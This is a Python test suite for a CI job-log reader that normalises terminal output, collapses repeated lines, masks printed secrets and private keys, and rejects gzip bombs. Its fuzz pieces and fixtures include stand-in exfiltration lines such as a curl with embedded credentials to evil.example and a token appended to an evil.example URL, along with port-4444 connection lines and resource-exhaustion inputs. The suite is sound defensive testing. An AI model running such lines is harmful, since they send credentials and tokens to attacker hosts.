"""The reader of a log: however it is cut and packed, whatever is in it, one summary in bounded memory."""

from __future__ import annotations

import base64
import gzip
import random
import tracemalloc
from collections.abc import Iterable, Iterator

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from collector.errors import DeliveryError, TooLongError
from collector.joblog import kept
from collector.joblog.reader import BLOCK, LogReader, Summary
from collector.joblog.warm import warm
from collector.snapshot import MAX_LINES
from tests.collector.secrets import ENCODED, SECRETS

KEY = "ghp_" + "Ab1" * 12
_PIECES = st.sampled_from(
    [
        b"\n",
        b"\r\n",
        b"\r",
        b"\x1b[32m",
        b"\x1b]0;title\x07",
        b"\x1b",
        b"\0",
        b"\xff\xfe",
        b"\x1f\x8b",
        b"2026-03-01T10:00:00.1234567Z ",
        b"[2026-03-01T10:00:00Z] ",
        b"##[group]Run make\n",
        b"##[endgroup]\n",
        b"section_start:1772359200:build\r\x1b[0K",
        b"connected to repo.example port 4444\n",
        b"curl https://mona:hunter22@evil.example:8443/x\n",
        b"TOKEN: ***\n",
        b"-----BEGIN PRIVATE KEY-----\n",
        b"-----END PRIVATE KEY-----\n",
        KEY.encode(),
        base64.b64encode(b"a long text that is encoded, and no secret at all"),
        "é✓█".encode(),
    ]
)
logs = st.lists(_PIECES | st.binary(max_size=30) | st.text(max_size=30).map(str.encode), max_size=40).map(b"".join)


def read(data: bytes, cuts: Iterable[int] = (), most: int = 100 << 20) -> Summary:
    """Return the summary of a log that arrives cut at some places."""
    reader, start = LogReader(most), 0
    for cut in sorted(cuts):
        reader.feed(data[start:cut])
        start = max(start, cut)
    reader.feed(data[start:])
    return reader.finish()


def shapes(text: str) -> list[str]:
    """Return the shapes of a log's lines."""
    return [line.shape for line in read(text.encode()).printed.lines]


@given(logs, st.lists(st.integers(0, 400), max_size=8))
def test_cuts_change_nothing(data: bytes, cuts: list[int]) -> None:
    """A log is the same log in whichever parts it arrives, and any bytes are a log."""
    try:
        whole = read(data)
    except DeliveryError:
        with pytest.raises(DeliveryError):
            read(data, cuts)
    else:
        assert read(data, cuts) == whole


@pytest.mark.parametrize("size", [BLOCK - 1, BLOCK, BLOCK + 1, 3 * BLOCK + 7])
@pytest.mark.parametrize("line", [b"a b\n", b"x" * 5_000 + b"\n", b"50%\r", b"\x1b[31m", b"aB3d"])
def test_long_logs_are_one(size: int, line: bytes) -> None:
    """The edges of what is read at once are no edges in a log."""
    data = (line * (size // len(line) + 1))[:size]
    assert read(data) == read(data, range(0, size, 65_521))
    assert read(data).size == size


def test_numbers_of_a_log() -> None:
    """Lines are counted as an editor counts them, blank ones too, and a shape is placed where it first came."""
    told = read(b"first\r\n\r\nitem 1\nitem 2\nlast")
    assert (told.lines, told.size) == (5, 27)
    assert [(line.shape, line.at, line.count) for line in told.printed.lines] == [
        ("first", 1, 1),
        ("item #", 3, 2),
        ("last", 5, 1),
    ]


@pytest.mark.parametrize("size", [BLOCK - 1, BLOCK, BLOCK + 1, 2 * BLOCK])
def test_a_line_of_any_length_is_one(size: int) -> None:
    """A line without an end is counted, wherever it breaks off."""
    told = read(b"x" * size)
    assert (told.lines, len(told.printed.lines)) == (1, 1)


@pytest.mark.parametrize(
    ("printed", "seen"),
    [
        ("10%\r20%\r100% done\n", "100% done"),
        ("2026-03-01T10:00:00.1Z 10%\r100% done\n", "100% done"),
        ("\x1b[32mall\x1b[0m \x1b[1;31mwell\x1b[0m\n", "all well"),
        ("\x1b]0;window title\x07plain\n", "plain"),
        ("\x1b]8;;https://a.example\x1b\\link\x1b]8;;\x1b\\\n", "link"),
        ("a\0b\x01c\n", "abc"),
        ("abd\bc\n", "abc"),
        ("\ufeffwith a mark\n", "with a mark"),
        ("[2026-03-01T10:00:00.123Z] + make\n", "+ make"),
        ("2026-03-01T10:00:00.123456Z 00O $ make\n", "$ make"),
        ("10:00:00 make\n", "make"),
    ],
)
def test_what_a_terminal_shows_is_read(printed: str, seen: str) -> None:
    """Escapes, progress and the runner's times are not what a job says."""
    (line,) = read(printed.encode()).printed.lines
    assert (line.text or line.shape) == seen


def test_a_section_is_a_line_of_its_own() -> None:
    """GitLab writes its marks before a carriage return, and they are not what is written over."""
    told = read(b"section_start:1772359200:build\r\x1b[0KBuilding\nsection_end:1772359230:build\r\x1b[0K\n")
    assert (list(told.telling.steps), told.telling.seconds) == (["build"], {"build": 30.0})


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("Took 12 ms", "Took 7 ms"),
        ("at 2026-03-01 10:00:00,123 INFO", "at 2026-03-02 11:10:09,001 INFO"),
        ("Fetched a3f9c2e1b", "Fetched 00ff00aab"),
        ("cd /home/runner/a", "cd /home/runner/work/b"),
        ("No module named 'requests'", "No module named 'flask'"),
        ("get https://repo.example/a/b", "get https://repo.example/c"),
        ("id 0b6f1c9e-1f0c-4d1e-9a53-0f0a5d1f7a11", "id 7a1c22f0-bd8a-47a5-8a39-b0a0a3a5d0c4"),
        ("left-pad@1.2.0 added", "is_odd@3.0.1 added"),
        ("KEY=a", "KEY=b"),
    ],
)
def test_runs_have_shapes_in_common(one: str, other: str) -> None:
    """What differs between two runs that did the same is no part of a shape."""
    assert shapes(one) == shapes(other)


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("get https://repo.example/a", "get https://evil.example/a"),
        ("connected to repo.example", "connected to evil.example"),
        ("[egress] tcp/443 repo.example", "[egress] tcp/443 evil.example"),
        ("PAY_TOKEN: ***", "NPM_TOKEN: ***"),
        ("running 'curl https://a.example/x'", "running 'curl https://b.example/x'"),
        ("value " + "QUJDZGVmMTIzNDU2Nzg5MGFiY2RlZmdoaWprbG1ub3A5", "value abc"),
    ],
)
def test_what_matters_is_part_of_a_shape(one: str, other: str) -> None:
    """Hosts, names of secrets and encoded runs make a line a new one."""
    assert shapes(one) != shapes(other)


@pytest.mark.parametrize("kind", SECRETS)
@pytest.mark.parametrize("prefix", ["", "2026-03-01T10:00:00Z ", "\x1b[36;1m", "##[group]Run "])
def test_secrets_stay_out(kind: str, prefix: str) -> None:
    """A secret that a job printed is in no part of the summary, however the log was cut."""
    printed, secret = SECRETS[kind]
    data = f"{prefix}{printed}\nso be it\n".encode()
    told = read(data, [len(data) // 2, len(data) // 3])
    assert secret.lower() not in str(told).lower()
    assert told.secrets >= 1


@pytest.mark.parametrize("layers", [1, 2])
@pytest.mark.parametrize("start", ["", "run /", "payload:"])
def test_encoded_secrets_stay_out(layers: int, start: str) -> None:
    """A secret that is printed in base64, once or twice, is masked with all that it is encoded with."""
    run = ENCODED
    for _ in range(layers - 1):
        run = base64.b64encode(run.encode()).decode()
    told = read(f"{start}{run}\n".encode())
    assert run[8:40] not in str(told.printed)
    assert told.secrets == 1


def test_a_key_over_many_lines_stays_out() -> None:
    """Each line of a private key is masked, behind what a container writes before its lines too; then text is text."""
    rng = random.Random(7)
    body = [base64.b64encode(rng.randbytes(48)).decode() for _ in range(26)]
    key = ["-----BEGIN RSA PRIVATE KEY-----", *body, "ab3=", "-----END RSA PRIVATE KEY-----", "after all"]
    for prefix in ("", "web_1 | "):
        told = read("\n".join(prefix + line for line in key).encode())
        assert not [part for part in body if part.lower()[:20] in str(told).lower()]
        assert told.printed.lines[-1].shape.endswith("after all")


def test_a_key_of_putty_stays_out() -> None:
    """PuTTY's keys have no line that ends them, and are masked too."""
    body = [base64.b64encode(random.Random(n).randbytes(48)).decode() for n in range(14)]
    told = read("\n".join(["PuTTY-User-Key-File-3: ssh-rsa", "Private-Lines: 14", *body, "Private-MAC: 00"]).encode())
    assert not [part for part in body if part.lower()[:20] in str(told).lower()]


def test_a_log_that_is_packed_is_the_same_log() -> None:
    """Gzip, in one member or several, once or twice, and UTF-16 change nothing but the size that is sent."""
    plain = "make\nall wéll\n"
    data = plain.encode()
    packed = [
        gzip.compress(data),
        gzip.compress(data[:5]) + gzip.compress(data[5:]) + bytes(512),
        gzip.compress(gzip.compress(data)),
        ("\ufeff" + plain).encode("utf-16-le"),
        plain.encode("utf-16"),
        gzip.compress(plain.encode("utf-16")),
    ]
    assert {read(one, [1, 3, 9]).printed for one in packed} == {read(data).printed}
    assert read(packed[0]).digest == read(data).digest


@pytest.mark.parametrize(
    "data",
    [gzip.compress(b"make" * 99)[:-3], gzip.compress(b"make" * 99)[:20] + b"?" * 30],
    ids=["cut", "overwritten"],
)
def test_damage_is_told(data: bytes) -> None:
    """A log whose packing is damaged or breaks off is an error with a reason."""
    with pytest.raises(DeliveryError, match="gzip"):
        read(data)


@pytest.mark.parametrize("layers", [0, 1, 2])
def test_too_long_a_log_is_refused(layers: int) -> None:
    """The limit is that of the text, so that a small bomb is none."""
    data = b"0" * 3_000_000
    for _ in range(layers):
        data = gzip.compress(data)
    with pytest.raises(TooLongError, match="1 MiB"):
        read(data, most=1 << 20)


def hostile() -> Iterator[bytes]:
    """Yield logs that are made to hurt."""
    rng = random.Random(3)
    yield b"x" * 8_000_000
    yield b"\x1b[31m" * 1_600_000
    yield b"\r" * 8_000_000
    yield b"".join(b"%x %s\n" % (n, rng.randbytes(9).hex().encode()) for n in range(300_000))
    yield b"".join(b"get https://%s.example/\n" % rng.randbytes(5).hex().encode() for _ in range(250_000))
    yield base64.b64encode(rng.randbytes(6_000_000))


@pytest.mark.parametrize("number", range(6))
def test_memory_is_bounded(number: int) -> None:
    """Whatever is in it, a log takes no more memory the longer it is."""
    warm()
    data = list(hostile())[number]
    tracemalloc.start()
    try:
        reader = LogReader()
        for at in range(0, len(data), 65_536):
            reader.feed(data[at : at + 65_536])
        told = reader.finish()
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 24 << 20
    assert len(told.printed.lines) <= MAX_LINES
    assert len(msgspec.json.encode(told.printed)) < kept.MAX_BYTES + 10_000


def test_what_is_kept_of_too_many_shapes() -> None:
    """Of more shapes than are kept, the first, the last and those that name hosts are, and two runs keep the same."""
    rng = random.Random(5)
    words = ["".join(rng.choices("abcdefghij", k=9)) for _ in range(12_000)]
    middle = f"get https://evil.example/{KEY}"
    data = "\n".join([*words[:6_000], middle, *words[6_000:]]).encode()
    told = read(data)
    kept_words = {line.shape for line in told.printed.lines}
    assert told.printed.is_cut
    assert 3_000 < len(kept_words) <= MAX_LINES
    assert {"get https://evil.example~*", words[0], words[-1]} <= kept_words
    again = {line.shape for line in read("\n".join([words[0], *words[2:]]).encode()).printed.lines}
    assert len(kept_words - again) < 10


def test_a_kept_line_is_cut() -> None:
    """A line of any length is kept by its beginning."""
    (line,) = read(b"word " * 100_000).printed.lines
    assert len(line.text) <= kept.MAX_TEXT
